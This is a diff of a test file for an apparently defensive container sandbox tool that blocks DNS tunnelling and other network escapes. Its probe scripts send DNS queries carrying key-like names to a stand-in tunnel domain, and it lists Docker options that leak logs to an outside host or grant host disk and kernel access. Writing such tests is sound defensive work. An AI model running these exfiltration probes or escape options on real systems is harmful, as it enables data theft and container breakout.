@@ -94,7 +94,8 @@ test("no name and no packet leaves with the first instructions", async () => {
     for (let each = 1; each <= STARTS; each++) {
       const script = `dig +time=1 +tries=1 key-born-${each}.tunnel.example.net; dig +time=1 +tries=1 @${STRANGER} key-direct-${each}.tunnel.example.net; ${REACH}; true`;
       const { stdout, stderr } = await sandbox(ALLOW, ...sh(script));
-      assert.match(stdout, /status: NXDOMAIN[^]*no servers could be reached/, stderr);
+      assert.match(stdout, /no servers could be reached/, stderr);
+      assert.doesNotMatch(stdout, /status: NOERROR/);
       assert.doesNotMatch(stdout, /got-out/);
     }
   });
@@ -113,6 +114,11 @@ test("what cannot be held is not started, and the reason says which line to chan
     [["--security-opt", "systempaths=unconfined"], /may write settings of the host's kernel/],
     [["--device-cgroup-rule", "b *:* rwm"], /may use disks of the host/],
     [["--device", "/dev"], /has the disk \/dev/],
+    [["--log-driver", "syslog", "--log-opt", `syslog-address=tcp://${STRANGER}:80`], /Delete --log-driver/],
+    [
+      ["--mount", "type=volume,dst=/x,volume-opt=type=nfs,volume-opt=o=addr=x.test,volume-opt=device=:/x"],
+      /has a volume of the type nfs/,
+    ],
     [["--volumes-from", other.name], /uses the network, processes or mounts of other/],
     [
       ["--network", `container:${other.name}`],
@@ -254,6 +260,8 @@ test("a container that runs already is held from then on, and that is said", asy
       `wget -qO- http://api.example.com/; nslookup key-old.tunnel.example.net; ${REACH}`,
     ],
   );
+  const renamed = await sandbox(ALLOW, "docker", "rename", "old", "new");
+  assert.match(renamed.stderr, /old is held by its name/);
   assert.match(stderr, /old runs already: what it did before this moment was not held/);
   assert.match(stdout, /I am 192\.0\.2\.10[^]*NXDOMAIN/);
   assert.doesNotMatch(stdout, /got-out/);
@@ -326,6 +334,7 @@ test("a mistake is named, and the command is not run", async () => {
     [[], [], /dns11 sandbox needs a command/],
     [["--allow", "not a name"], ["echo", "ran"], /invalid .*"not a name"/],
     [["--policy", two], ["echo", "ran"], /has 2 policies/],
+    [["--report", "/nonexistent/x"], ["echo", "ran"], /"\/nonexistent\/x" cannot be written/],
     [["--policy", "/nonexistent"], ["echo", "ran"], /"\/nonexistent" cannot be read/],
   ] as const) {
     const { code, stdout, stderr } = await sandbox(options, ...words);
